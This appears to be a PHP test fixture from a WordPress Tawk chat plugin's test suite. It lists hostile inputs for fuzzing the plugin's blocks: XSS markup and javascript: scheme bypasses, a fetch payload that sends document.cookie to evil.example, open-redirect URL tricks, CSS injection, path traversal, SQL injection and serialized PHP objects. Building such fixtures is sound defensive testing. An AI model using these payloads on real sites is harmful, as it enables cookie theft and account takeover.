<?php
declare( strict_types=1 );

namespace Tawk_Integration\Tests\Blocks;

/**
 * What somebody who may only write posts might write to get a script, a foreign address or somebody's data into a page.
 */
final class Payloads {

	private const RUN = array(
		'alert(1)',
		'alert`1`',
		'location="//evil.example"',
		'fetch("https://evil.example/?"+document.cookie)',
		'&#97;lert(1)',
		'\u0061lert(1)',
	);

	/** `%s` is what runs. */
	private const MARKUP = array(
		'<script>%s</script>',
		'</script><script>%s</script>',
		'<ScRiPt >%s</sCrIpT>',
		'<script/src=//evil.example></script><!--%s',
		'--><script>%s</script><!--',
		'--!><img src=x onerror=%s>',
		']]><script>%s</script>',
		'<img src=x onerror="%s">',
		'<svg/onload=%s>',
		'<svg><script>%s</script></svg>',
		'<math><mtext></form><form><mglyph><style></math><img src onerror=%s>',
		'<iframe srcdoc="<script>%s</script>"></iframe>',
		'<a href="javascript:%s">x</a>',
		'<style>@import "//evil.example";</style><b>%s</b>',
		'<template><script>%s</script></template>',
		'<object data="javascript:%s"></object>',
		'" onmouseover="%s" x="',
		"' onfocus='%s' autofocus='",
		'` onclick=%s `',
		' onpointerover=%s ',
		'x" style="animation-name:x" onanimationstart="%s',
		'"><script>%s</script>',
		"'><script>%s</script>",
		'&quot;><script>%s</script>',
		'&#34;&#62;&lt;script&gt;%s&lt;/script&gt;',
		'&#x22; onclick=&#x22;%s',
		'%%22%%3E%%3Cscript%%3E%s%%3C/script%%3E',
		"\u{ff1c}script\u{ff1e}%s\u{ff1c}/script\u{ff1e}",
		'"}],"x":[{"a":"</script><script>%s</script>',
		'\\"}]}</script><script>%s</script>',
		'\\u0022\\u003e\\u003cscript\\u003e%s',
		"\u{2028}\u{2029}</script><script>%s</script>",
		"\x00<scr\x00ipt>%s</script>",
		"\xC0\xBCscript\xC0\xBE%s",
		"\xFF\" onclick=\"%s",
		"\xE0\x80\"><script>%s</script>",
		'[gallery]"><script>%s</script>',
		'[tawk_button label="<script>%s</script>"]',
		'[caption width="1" caption="<img src=x onerror=%s>"]x[/caption]',
		'{{constructor.constructor("%s")()}}',
		'${%s}',
		'expression(%s)',
	);

	private const SCHEMES = array(
		'javascript:alert(1)',
		'JaVaScRiPt:alert(1)',
		"java\tscript:alert(1)",
		"java\nscript:alert(1)",
		"\x01javascript:alert(1)",
		' javascript:alert(1)',
		'&#106;avascript:alert(1)',
		'&#x6A;avascript&colon;alert(1)',
		'javascript&Tab;:alert(1)',
		'javascript://%0aalert(1)',
		'javascript:/*--></title></style></script><svg onload=alert(1)>*/',
		'vbscript:msgbox(1)',
		'data:text/html,<script>alert(1)</script>',
		'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
		'DATA:text/html,x',
		'blob:https://evil.example/1',
		'file:///etc/passwd',
		'ftp://evil.example/',
		'about:blank',
		'view-source:https://evil.example',
		'intent://evil.example#Intent;end',
		'mailto:a@example.com" onclick="alert(1)',
		"mailto:a@example.com\njavascript:alert(1)",
		'tel:1"><script>alert(1)</script>',
		'mailto:<script>alert(1)</script>',
		'tel:javascript:alert(1)',
	);

	private const FOREIGN = array(
		'https://evil.example',
		'http://evil.example/',
		'HTTPS://EVIL.EXAMPLE',
		'//evil.example',
		'///evil.example',
		'////evil.example',
		'\\\\evil.example',
		'/\\evil.example',
		'\\/evil.example',
		"/\t/evil.example",
		"/\n/evil.example",
		"\t//evil.example",
		' //evil.example',
		"\x00//evil.example",
		'https:evil.example',
		'https:/evil.example',
		'https:///evil.example',
		'https:\\\\evil.example',
		'http:/\\evil.example',
		'https://%SITE%@evil.example',
		'https://%SITE%:80@evil.example',
		'https://%SITE%%40evil.example',
		'https://%SITE%.evil.example',
		'https://evil.example#@%SITE%',
		'https://evil.example?@%SITE%/',
		'https://evil.example\\@%SITE%',
		'https://evil.example/%SITE%',
		"https://%SITE%\u{3002}evil.example",
		"https://evil\u{3002}example",
		"https://evil\u{FF0E}example",
		"https://evil\u{FF61}example",
		"//evil\u{3002}example",
		'https://evil%2eexample',
		'https://evil%E3%80%82example',
		"https://\u{24D4}vil.example",
		'https://[::1]/',
		'https://2130706433/',
		'https://0x7f.1/',
		'//%65vil.example',
		'/%09/evil.example',
		'/%5Cevil.example',
		'//evil.example:443/%2e%2e',
		'https://evil.example:%SITE%',
		'?x=//evil.example',
		'#//evil.example',
		'./\\evil.example',
		'.//evil.example',
		'../..//evil.example',
		"https://\u{200B}evil.example",
		"h\u{00AD}ttps://evil.example",
		'/&#x2f;evil.example/',
		'/&#47;evil.example/',
		'/&#0000047evil.example/',
		'/&#x2fevil.example/',
		'/&#92;evil.example/',
		'/&#x5c;evil.example/',
		'/&#9;/evil.example/',
		'/&sol;evil.example/',
		'/&bsol;evil.example/',
		'/&Tab;/evil.example/',
		'/&NewLine;/evil.example/',
		'/&amp;#x2f;evil.example/',
		'/&amp;amp;#x2f;evil.example/',
		'https&colon;//evil.example',
		'&sol;&sol;evil.example',
		'?&#x2f;/evil.example',
	);

	private const CSS = array(
		'1px;background:url(//evil.example)',
		'1px;position:fixed;inset:0',
		'expression(alert(1))',
		'calc(1px)',
		'var(--x)',
		'1px}body{display:none',
		'100%;behavior:url(x)',
		"1px\n;background:url(x)",
		'1px/**/;color:red',
		'url(javascript:alert(1))',
		'1e9px',
		'-1px',
		'99999999px',
		"1px\\3b background:red",
		'NaN',
		'100vw!important',
		'1px"onclick="alert(1)',
		'attr(onclick)',
		'env(x)',
		'١px',
	);

	/** Ids and names that mean something to scripts or to WordPress. */
	private const NAMES = array(
		'tawk-integration-config',
		'__proto__',
		'constructor',
		'../../../../etc/passwd',
		'{user.email}',
		'{user_meta.session_tokens}',
		'{user_meta.wp_capabilities}',
		'{browser.cookie.wordpress_logged_in}',
		'{site.admin_email}',
		'{post.title',
		'{{user.email}}',
		"' OR 1=1 --",
		'%s%s%n',
		'$1\\1',
		'0',
		'null',
		'O:8:"stdClass":0:{}',
		'a:1:{i:0;O:8:"stdClass":0:{}}',
	);

	/**
	 * @param string $host Of this site.
	 * @return list<string>
	 */
	public static function all( string $host ): array {
		$all = array_merge( self::SCHEMES, array_map( static fn( string $url ): string => str_replace( '%SITE%', $host, $url ), self::FOREIGN ), self::CSS, self::NAMES );
		foreach ( self::MARKUP as $markup ) {
			foreach ( self::RUN as $run ) {
				$all[] = sprintf( $markup, $run );
			}
		}
		return array_merge( $all, array( str_repeat( '<', 5000 ), str_repeat( '"', 5000 ), str_repeat( '[', 3000 ), str_repeat( "\xF0", 3000 ), str_repeat( '&quot;', 2000 ), '' ) );
	}
}
